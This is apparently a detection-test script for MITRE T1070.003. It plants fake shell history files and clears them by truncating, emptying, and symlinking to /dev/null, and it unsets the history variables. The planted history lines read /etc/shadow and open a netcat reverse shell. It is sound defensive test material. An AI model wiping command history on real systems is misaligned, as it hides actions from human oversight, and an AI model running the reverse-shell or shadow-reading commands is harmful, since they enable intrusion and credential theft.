# technique: T1070.003
"""Indicator Removal: Clear Command History (T1070.003), three spellings
in one run: os.truncate, open(..., "w") on the file, and replacing the
history file with a symbolic link to /dev/null.

Plants ~/.bash_history, ~/.zsh_history and ~/.python_history (so there is
something to clear), truncates the first with os.truncate(path, 0),
empties the second by opening it "w", removes the third and symlinks it
to /dev/null so future history vanishes; also sets HISTFILE= and
HISTSIZE=0 in the environment, as `unset HISTFILE` would.

A good detector raises a medium or high alert: shell history files are
emptied, removed or redirected to /dev/null.
"""
import os as _os, pwd as _pwd, sys as _sys  # noqa: E401 (safety guard, not part of the attack)
if _os.path.realpath(_os.path.expanduser("~")) == _os.path.realpath(_pwd.getpwuid(_os.getuid()).pw_dir):
    _sys.exit("this attack writes under HOME: run it with HOME set to a scratch directory")
import os

home = os.path.expanduser("~")
for name in (".bash_history", ".zsh_history", ".python_history"):
    with open(os.path.join(home, name), "w") as f:
        f.write("cat /etc/shadow\nnc -e /bin/sh 10.0.0.1 4444\n")
os.truncate(os.path.join(home, ".bash_history"), 0)
open(os.path.join(home, ".zsh_history"), "w").close()
os.remove(os.path.join(home, ".python_history"))
os.symlink("/dev/null", os.path.join(home, ".python_history"))
os.environ["HISTFILE"] = ""
os.environ["HISTSIZE"] = "0"
